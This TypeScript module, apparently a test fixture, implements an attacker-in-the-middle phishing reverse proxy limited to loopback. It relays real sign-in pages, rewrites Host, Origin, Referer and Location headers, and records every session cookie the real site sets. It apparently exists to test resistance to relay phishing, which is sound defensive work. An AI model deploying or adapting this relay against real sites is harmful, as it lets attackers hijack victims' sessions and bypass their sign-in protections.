// A relaying reverse proxy, as an attacker-in-the-middle phishing kit runs it (loopback only):
// it serves the REAL sign-in pages on its own origin, rewriting Host, Origin and Referer towards
// the real site and Location back towards itself, and keeps every Set-Cookie it relays.
import http from "node:http";

export interface PhishingProxy {
  /** The phishing origin the victim is lured to (another port: another origin, same host). */
  url: string;
  /** Every cookie (name=value) the real site set through the proxy, in order. */
  captured: string[];
  close(): Promise<void>;
}

export async function startPhishingProxy(listenPort: number, upstreamPort: number): Promise<PhishingProxy> {
  const own = `http://localhost:${listenPort}`;
  const real = `http://localhost:${upstreamPort}`;
  const captured: string[] = [];
  const toReal = (v: string) => v.split(own).join(real);
  const server = http.createServer((req, res) => {
    const headers: http.OutgoingHttpHeaders = {};
    for (const [k, v] of Object.entries(req.headers)) {
      if (v === undefined) continue;
      headers[k] = k === "host" ? `localhost:${upstreamPort}` : k === "origin" || k === "referer" ? (Array.isArray(v) ? v.map(toReal) : toReal(v)) : v;
    }
    const up = http.request({ host: "127.0.0.1", port: upstreamPort, method: req.method, path: req.url, headers, agent: false }, (upRes) => {
      const out: http.OutgoingHttpHeaders = { ...upRes.headers };
      for (const c of upRes.headers["set-cookie"] ?? []) captured.push(c.split(";")[0] ?? "");
      if (typeof upRes.headers.location === "string") out.location = upRes.headers.location.split(real).join(own);
      res.writeHead(upRes.statusCode ?? 502, out);
      upRes.pipe(res);
    });
    up.on("error", () => { if (!res.headersSent) res.writeHead(502); res.end(); });
    req.pipe(up);
  });
  await new Promise<void>((resolve, reject) => { server.once("error", reject); server.listen(listenPort, "127.0.0.1", resolve); });
  return {
    url: own,
    captured,
    close: () => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()); }),
  };
}
